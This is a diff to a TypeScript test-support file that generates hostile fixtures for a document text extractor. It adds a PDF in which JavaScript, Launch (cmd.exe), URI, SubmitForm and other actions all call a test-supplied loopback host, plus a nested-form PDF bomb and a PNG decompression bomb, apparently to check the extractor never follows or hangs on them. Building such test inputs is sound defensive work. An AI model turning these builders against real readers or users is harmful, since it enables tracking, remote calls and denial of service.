@@ -1,9 +1,20 @@
 // Test support for the text extractor (src/reading): documents made on the spot whose text is
 // known (a bill drawn as a photo would show it, a scanned PDF, a PDF with a text layer), and the
-// hostile ones built byte by byte (an encrypted PDF, zip bombs, image headers that lie).
-import { deflateRawSync } from "node:zlib";
+// hostile ones built byte by byte (an encrypted PDF, zip bombs, image headers that lie, a PDF whose
+// every action calls home, a PDF of forms nested a billion times, a PNG that decodes to 160 MB).
+import { readFileSync } from "node:fs";
+import { crc32, deflateRawSync, deflateSync } from "node:zlib";
 import { GlobalFonts, createCanvas, loadImage } from "@napi-rs/canvas";
-import { PDFDocument, PDFHexString, PDFName, PDFString, StandardFonts } from "pdf-lib";
+import {
+  PDFDocument,
+  PDFHexString,
+  PDFName,
+  PDFString,
+  StandardFonts,
+  drawObject,
+  popGraphicsState,
+  pushGraphicsState,
+} from "pdf-lib";
 
 /** A bill's lines, as every generated document here shows them. */
 export const NORTHWIND_BILL = [
@@ -14,6 +25,14 @@ export const NORTHWIND_BILL = [
   "Payment due by 28/11/2026",
   "Billed monthly. Thank you for your custom.",
 ];
+
+/**
+ * The bill as a Word 97-2003 .doc with the sender in its header, made once with LibreOffice 7.4
+ * (soffice --headless --convert-to doc) from a DOCX: CI has no LibreOffice.
+ */
+export function northwindBillDoc(): Buffer {
+  return readFileSync(new URL("../fixtures/northwind-bill.doc", import.meta.url));
+}
 
 export interface PhotoOptions {
   width?: number;
@@ -265,4 +284,156 @@ export function jpegClaiming(width: number, height: number): Buffer {
   jpeg[11] = 3; // components
   jpeg.writeUInt16BE(0xffd9, 21);
   return jpeg;
+}
+
+/**
+ * A text PDF (these lines) in which everything a PDF reader could be made to run or follow calls
+ * `home` (a loopback URL of the test's): a JavaScript action on opening (app.launchURL, getURL,
+ * submitForm, Net.HTTP and SOAP requests, then a loop that never ends) chained with URI,
+ * SubmitForm, Launch, GoToR and ImportData actions; the same script in the document's named
+ * scripts, its will-close/save/print actions and the page's open action; a link and a form field
+ * whose actions call home; and an image whose data is a URL. A reader that ran or followed any of
+ * it would connect to `home`, or never finish.
+ */
+export async function pdfCallingHome(
+  home: string,
+  lines: readonly string[] = NORTHWIND_BILL,
+): Promise<Buffer> {
+  const pdf = await PDFDocument.load(await textPdf([lines]));
+  const { context, catalog } = pdf;
+  const text = (value: string) => PDFString.of(value);
+  const url = (path: string) => context.obj({ FS: "URL", F: text(`${home}/${path}`) });
+  const calls = [
+    `app.alert("a script ran")`,
+    `app.launchURL("${home}/launchURL", true)`,
+    `this.getURL("${home}/getURL")`,
+    `this.submitForm({ cURL: "${home}/submitForm" })`,
+    `Net.HTTP.request({ cVerb: "GET", cURL: "${home}/net-http" })`,
+    `SOAP.request({ cURL: "${home}/soap", oRequest: {} })`,
+  ];
+  const script = (where: string) =>
+    context.obj({
+      S: "JavaScript",
+      JS: text(calls.map((call) => `try { ${call}; } catch (e) {}`).join("\n") + `\n// ${where}`),
+    });
+  const followed = [
+    context.obj({ S: "URI", URI: text(`${home}/uri`) }),
+    context.obj({ S: "SubmitForm", F: url("submit-action"), Flags: 4 }),
+    context.obj({ S: "Launch", F: url("launch"), Win: { F: text("cmd.exe") } }),
+    context.obj({ S: "GoToR", F: url("goto-remote.pdf"), D: [0, "Fit"] }),
+    context.obj({ S: "ImportData", F: url("import-data.fdf") }),
+    context.obj({ S: "JavaScript", JS: text("while (true) {}") }),
+  ];
+  const opening = script("on opening");
+  opening.set(PDFName.of("Next"), context.obj(followed.map((action) => context.register(action))));
+  catalog.set(PDFName.of("OpenAction"), context.register(opening));
+  catalog.set(
+    PDFName.of("Names"),
+    context.obj({ JavaScript: { Names: [text("home"), context.register(script("named"))] } }),
+  );
+  catalog.set(
+    PDFName.of("AA"),
+    context.obj({ WC: script("will close"), WS: script("will save"), WP: script("will print") }),
+  );
+  const page = pdf.getPage(0);
+  page.node.set(PDFName.of("AA"), context.obj({ O: script("page open"), C: script("page close") }));
+  const link = context.register(
+    context.obj({
+      Type: "Annot",
+      Subtype: "Link",
+      Rect: [50, 50, 300, 80],
+      A: { S: "URI", URI: text(`${home}/link`) },
+    }),
+  );
+  const field = context.register(
+    context.obj({
+      Type: "Annot",
+      Subtype: "Widget",
+      FT: "Tx",
+      T: text("amount"),
+      Rect: [50, 100, 300, 130],
+      AA: {
+        K: script("keystroke"),
+        F: script("format"),
+        C: script("calculate"),
+        Fo: script("focus"),
+      },
+    }),
+  );
+  page.node.set(PDFName.of("Annots"), context.obj([link, field]));
+  catalog.set(PDFName.of("AcroForm"), context.obj({ Fields: [field], CO: [field] }));
+  const remoteImage = context.register(
+    context.stream(new Uint8Array(0), {
+      Type: "XObject",
+      Subtype: "Image",
+      Width: 1,
+      Height: 1,
+      ColorSpace: "DeviceGray",
+      BitsPerComponent: 8,
+      F: { FS: "URL", F: text(`${home}/image-data`) },
+    }),
+  );
+  const remote = page.node.newXObject("Remote", remoteImage);
+  page.pushOperators(pushGraphicsState(), drawObject(remote), popGraphicsState());
+  return Buffer.from(await pdf.save());
+}
+
+/**
+ * A PDF whose page draws a form that draws the next `fan` times, `depth` deep (the last one shows
+ * a word): a few kB that ask for fan^depth drawings, as a "billion laughs" asks for entities. A
+ * reader that follows them all takes minutes at depth 6 (pdf.js: about 1 s at depth 4, 10 at 5).
+ */
+export async function pdfFormBomb(depth: number, fan = 10): Promise<Buffer> {
+  const pdf = await PDFDocument.create();
+  const font = await pdf.embedFont(StandardFonts.Helvetica);
+  const page = pdf.addPage([595, 842]);
+  page.drawText(NORTHWIND_BILL[0] ?? "", { x: 50, y: 780, size: 12, font });
+  const { context } = pdf;
+  const form = (content: string, resources: Record<string, unknown>) =>
+    context.register(
+      context.stream(content, {
+        Type: "XObject",
+        Subtype: "Form",
+        BBox: [0, 0, 100, 100],
+        Resources: resources,
+      } as Parameters<typeof context.stream>[1]),
+    );
+  let drawn = form("BT /F1 12 Tf 10 10 Td (laugh) Tj ET", { Font: { F1: font.ref } });
+  for (let level = 0; level < depth; level++) {
+    drawn = form("/X Do ".repeat(fan), { XObject: { X: drawn } });
+  }
+  const bomb = page.node.newXObject("Bomb", drawn);
+  page.pushOperators(pushGraphicsState(), drawObject(bomb), popGraphicsState());
+  return Buffer.from(await pdf.save());
+}
+
+function pngChunk(type: string, data: Buffer): Buffer {
+  const length = Buffer.alloc(4);
+  length.writeUInt32BE(data.length);
+  const typed = Buffer.concat([Buffer.from(type, "latin1"), data]);
+  const checksum = Buffer.alloc(4);
+  checksum.writeUInt32BE(crc32(typed));
+  return Buffer.concat([length, typed, checksum]);
+}
+
+/**
+ * A real PNG of width x height white pixels (1 bit grey, every row the same): a few kB that
+ * decode to width x height x 4 bytes. Under the pixel limit, a reader must decode it: the memory
+ * an image may honestly take.
+ */
+export function pngPixelBomb(width: number, height: number): Buffer {
+  const header = Buffer.alloc(13);
+  header.writeUInt32BE(width, 0);
+  header.writeUInt32BE(height, 4);
+  header[8] = 1; // bit depth
+  header[9] = 0; // grey
+  const rowBytes = Math.ceil(width / 8) + 1; // a filter byte, then the pixels
+  const rows = Buffer.alloc(rowBytes * height, 0xff);
+  for (let row = 0; row < height; row++) rows[row * rowBytes] = 0; // filter: none
+  return Buffer.concat([
+    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
+    pngChunk("IHDR", header),
+    pngChunk("IDAT", deflateSync(rows, { level: 9 })),
+    pngChunk("IEND", Buffer.alloc(0)),
+  ]);
 }
